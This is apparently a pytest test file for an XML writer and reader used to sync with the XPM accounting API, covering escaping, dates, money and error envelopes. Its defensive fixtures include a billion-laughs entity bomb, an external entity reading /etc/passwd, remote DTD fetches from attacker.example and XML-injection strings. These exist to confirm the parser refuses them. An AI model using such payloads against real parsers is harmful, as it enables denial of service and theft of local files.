"""syncd.xero.xml, pure: the writer (user data only ever as escaped text or attribute values, XPM's
request forms for dates and money) and the reader of XPM's `<Response>` envelope (defusedxml:
no DTD, no entity declarations, Status checked, "not found" descriptions as NotFound)."""

from __future__ import annotations

from datetime import date, datetime
from decimal import Decimal
from xml.etree.ElementTree import Element

import pytest
from defusedxml.ElementTree import fromstring
from hypothesis import given
from hypothesis import strategies as st

from syncd.domain.errors import NotFound, PermanentError
from syncd.xero import xml

# Characters XML 1.0 can carry as text, less CR (a parser normalises it to LF by the spec).
XML_TEXT = st.text(
    alphabet=st.characters(
        codec="utf-8",
        exclude_categories=("Cs", "Cc", "Cn"),
        include_characters="\t\n",
    )
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE Response [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Response><Status>OK</Status><Jobs><Job><Name>&lol3;</Name></Job></Jobs></Response>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Response [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Response><Status>ERROR</Status><ErrorDescription>&secret;</ErrorDescription></Response>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Response [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<Response><Status>OK</Status></Response>"""


def children(element: Element) -> list[tuple[str, str | None]]:
    return [(child.tag, child.text) for child in element]


# -- writer -----------------------------------------------------------------------------------


def test_node_writes_one_text_child_per_entry_in_order_and_leaves_out_none() -> None:
    """Children keep the mapping's order; None values are left out, "" stays as an empty child."""
    element = xml.node(
        "Job",
        {"ID": "J000309", "Skipped": None, "Count": 3, "Empty": "", "Due": date(2026, 12, 31)},
    )
    assert children(element) == [
        ("ID", "J000309"),
        ("Count", "3"),
        ("Empty", ""),
        ("Due", "20261231"),
    ]


def test_node_takes_attributes_as_values() -> None:
    """Keyword arguments become attributes of the element (escaped when written)."""
    element = xml.node("add-manager", uuid='a"b<c&d')
    assert element.attrib == {"uuid": 'a"b<c&d'}
    assert fromstring(xml.document(element)).get("uuid") == 'a"b<c&d'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (date(2026, 12, 3), "20261203"),
        (date(2027, 1, 2), "20270102"),
        (datetime(2026, 12, 3, 23, 59), "20261203"),
        (Decimal("350"), "350.00"),
        (Decimal("350.5"), "350.50"),
        (Decimal("1E+3"), "1000.00"),
        (Decimal("0.10"), "0.10"),
        (42, "42"),
        ("J000309", "J000309"),
    ],
)
def test_request_forms_of_values(value: str | int | Decimal | date, written: str) -> None:
    """Dates go as YYYYMMDD, money with exactly two decimals, everything else as its text."""
    assert xml.xpm_text(value) == written


def test_document_is_utf8_with_a_declaration() -> None:
    """A body starts with an XML declaration and carries non-ASCII text as UTF-8."""
    body = xml.document(xml.node("Client", {"Name": "Zoë Ngā Māori"}))
    assert body.startswith(b"<?xml version='1.0' encoding='utf-8'?>")
    assert "Zoë Ngā Māori".encode() in body
    assert xml.text(fromstring(body), "Name") == "Zoë Ngā Māori"


@pytest.mark.parametrize(
    "hostile",
    [
        "Smith & Sons <Ltd>",
        "</Name><ClientUUID>evil</ClientUUID><Name>",
        "<![CDATA[x]]>",
        "a ]]> b",
        "\"double\" and 'single'",
        "&amp; stays literal",
        '<!DOCTYPE x [<!ENTITY e "boom">]>&e;',
    ],
)
def test_markup_in_user_text_stays_text(hostile: str) -> None:
    """`<`, `&`, quotes and `]]>` read back as the same text, with no sibling injected."""
    body = xml.document(xml.node("Job", {"Name": hostile, "ClientUUID": "real"}))
    root = fromstring(body, forbid_dtd=True)
    assert children(root) == [("Name", hostile), ("ClientUUID", "real")]
    assert b"<ClientUUID>evil" not in body
    assert b"<![CDATA[" not in body
    assert b"]]>" not in body


@given(XML_TEXT)
def test_any_xml_text_round_trips_through_the_writer(value: str) -> None:
    """Whatever legal text syncd writes, a parser reads back exactly, as one element's text."""
    root = fromstring(xml.document(xml.node("Job", {"Description": value, "ID": "J1"})))
    assert [child.tag for child in root] == ["Description", "ID"]
    assert (root.findtext("Description") or "") == value


# -- reader -----------------------------------------------------------------------------------


def test_read_returns_the_root_of_well_formed_xml() -> None:
    """A well-formed answer (declaration, attributes, whitespace) is read to its root."""
    root = xml.read(
        b'<?xml version="1.0" encoding="utf-8"?>\n<Response api-method="Get">\n'
        b"  <Status>OK</Status>\n</Response>\n"
    )
    assert root.tag == "Response"
    assert root.get("api-method") == "Get"
    assert xml.text(root, "Status") == "OK"


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"   ",
        b'{"Status": "OK"}',
        b"<html><body>Bad gateway</body>",
        b"OK",
        b"<Response><Status>OK</Status>",
        b"<Response><Status>OK</Response>",
        b"\xff\xfe<\x00R\x00",
    ],
)
def test_unreadable_answers_are_permanent(body: bytes) -> None:
    """Anything that is not well-formed XML raises PermanentError (never a parser exception)."""
    with pytest.raises(PermanentError, match="unreadable XML"):
        xml.read(body)


@pytest.mark.parametrize(
    "body",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "parameter-entity"],
)
def test_entity_declarations_are_refused_unexpanded(body: bytes) -> None:
    """Entity declarations of any kind are refused before anything is expanded or fetched."""
    with pytest.raises(PermanentError, match="unreadable XML") as refused:
        xml.response(body)
    message = str(refused.value)
    assert "lollol" not in message
    assert "root:" not in message


@pytest.mark.parametrize(
    "body",
    [
        b"<!DOCTYPE Response><Response><Status>OK</Status></Response>",
        b'<!DOCTYPE Response SYSTEM "http://attacker.example/r.dtd">'
        b"<Response><Status>OK</Status></Response>",
        b"<!DOCTYPE Response [<!ELEMENT Response ANY>]><Response><Status>OK</Status></Response>",
    ],
    ids=["bare", "external-subset", "internal-subset"],
)
def test_a_dtd_is_refused_even_without_entities(body: bytes) -> None:
    """A DOCTYPE is refused outright, as the module promises (XPM never sends one)."""
    with pytest.raises(PermanentError):
        xml.read(body)


def test_an_ok_envelope_is_no_failure() -> None:
    """Status OK (any case, surrounding whitespace) means success."""
    assert xml.failure(xml.read(b"<Response><Status>OK</Status></Response>")) is None
    assert xml.failure(xml.read(b"<Response><Status>\n  ok \n</Status></Response>")) is None


def test_an_error_envelope_carries_xpm_s_description() -> None:
    """Status ERROR is a PermanentError (not NotFound) quoting ErrorDescription."""
    problem = xml.failure(
        xml.read(
            b"<Response><Status>ERROR</Status>"
            b"<ErrorDescription>\n  DueDate must be on or after StartDate\n</ErrorDescription>"
            b"</Response>"
        )
    )
    assert type(problem) is PermanentError
    assert str(problem).endswith(": DueDate must be on or after StartDate")


@pytest.mark.parametrize(
    "description",
    [
        "Job J000123 not found",
        "Client dea92ac7-d536-402d-9447-7875020499be Not Found",
        "The job NOT\nFOUND",
        "That record does not exist",
    ],
)
def test_a_not_found_description_is_notfound(description: str) -> None:
    """An ERROR saying the record was not found (or does not exist) is NotFound."""
    body = f"<Response><Status>ERROR</Status><ErrorDescription>{description}</ErrorDescription>"
    problem = xml.failure(xml.read(f"{body}</Response>".encode()))
    assert isinstance(problem, NotFound)
    assert description in str(problem)


@pytest.mark.parametrize(
    "description",
    ["Budget is not a number", "Name is required", "The state 'Done' is not valid", "notfound"],
)
def test_other_descriptions_are_plain_permanent(description: str) -> None:
    """Other refusals stay PermanentError, never NotFound (they are not "the record is gone")."""
    body = f"<Response><Status>ERROR</Status><ErrorDescription>{description}</ErrorDescription>"
    problem = xml.failure(xml.read(f"{body}</Response>".encode()))
    assert type(problem) is PermanentError


@pytest.mark.parametrize(
    ("body", "fragment"),
    [
        (b"<Response><Status>ERROR</Status></Response>", "no ErrorDescription given"),
        (b"<Response><Status>ERROR</Status><ErrorDescription /></Response>", "no ErrorDescription"),
        (b"<Response><Jobs /></Response>", r"Status '\(missing\)'"),
        (b"<Response><Status /></Response>", r"Status '\(missing\)'"),
        (b"<Response><Status>PENDING</Status></Response>", "Status 'PENDING'"),
        (b"<Error><Status>OK</Status></Error>", "<Error>, not <Response>"),
        (b"<Jobs><Job><ID>J1</ID></Job></Jobs>", "<Jobs>, not <Response>"),
        (b"<response><Status>OK</Status></response>", "<response>, not <Response>"),
    ],
)
def test_odd_envelopes_are_permanent(body: bytes, fragment: str) -> None:
    """No description, no or an unknown Status, or another root: PermanentError saying which."""
    problem = xml.failure(xml.read(body))
    assert type(problem) is PermanentError
    assert problem is not None
    with pytest.raises(PermanentError, match=fragment):
        xml.response(body)


def test_response_returns_the_root_of_an_ok_answer() -> None:
    """`response` hands back the envelope of an OK answer for the parsers to read."""
    root = xml.response(b"<Response><Status>OK</Status><Jobs /></Response>")
    assert root.find("Jobs") is not None


# -- small readers ----------------------------------------------------------------------------

JOB = xml.read(
    b"""<Job>
  <ID>  J000309 </ID>
  <Empty />
  <Blank>   </Blank>
  <IsArchived>Yes</IsArchived>
  <IsDeleted>true</IsDeleted>
  <IsPrimary>No</IsPrimary>
  <StartDate>2026-12-03T00:00:00</StartDate>
  <DueDate>2026-12-31T17:30:00</DueDate>
  <Odd>31/12/2026</Odd>
  <Impossible>2026-02-30T00:00:00</Impossible>
  <Budget>350.00</Budget>
  <NotMoney>three fifty</NotMoney>
  <Client><Name>Nested only</Name></Client>
</Job>"""
)


def test_text_is_stripped_and_empty_when_absent() -> None:
    """Text of a direct child, stripped; "" when absent, empty or blank; nested children ignored."""
    assert xml.text(JOB, "ID") == "J000309"
    assert xml.text(JOB, "Empty") == ""
    assert xml.text(JOB, "Blank") == ""
    assert xml.text(JOB, "Missing") == ""
    assert xml.text(JOB, "Name") == ""
    assert xml.optional(JOB, "ID") == "J000309"
    assert xml.optional(JOB, "Blank") is None
    assert xml.optional(JOB, "Missing") is None


def test_yes_flags() -> None:
    """Yes/true (any case) is True; No, absent or empty is False."""
    assert xml.yes(JOB, "IsArchived") is True
    assert xml.yes(JOB, "IsDeleted") is True
    assert xml.yes(JOB, "IsPrimary") is False
    assert xml.yes(JOB, "Missing") is False
    assert xml.yes(JOB, "Empty") is False


def test_answer_dates() -> None:
    """Answer dates (`2026-12-31T00:00:00`, no zone) are dates; absent or unreadable is None."""
    assert xml.answer_date(JOB, "StartDate") == date(2026, 12, 3)
    assert xml.answer_date(JOB, "DueDate") == date(2026, 12, 31)
    assert xml.answer_date(JOB, "Odd") is None
    assert xml.answer_date(JOB, "Impossible") is None
    assert xml.answer_date(JOB, "Empty") is None
    assert xml.answer_date(JOB, "Missing") is None


def test_characters_xml_cannot_carry_become_spaces() -> None:
    """Control characters and lone surrogates in user data would make the whole body
    unreadable to XPM: they are sent as spaces; tabs, newlines and non-ASCII text are kept."""
    sent = xml.document(xml.node("Client", {"Name": "Ol\x08ivia\x1b Ch\ud800en\té"}))
    assert xml.text(xml.read(sent), "Name") == "Ol ivia  Ch en\té"
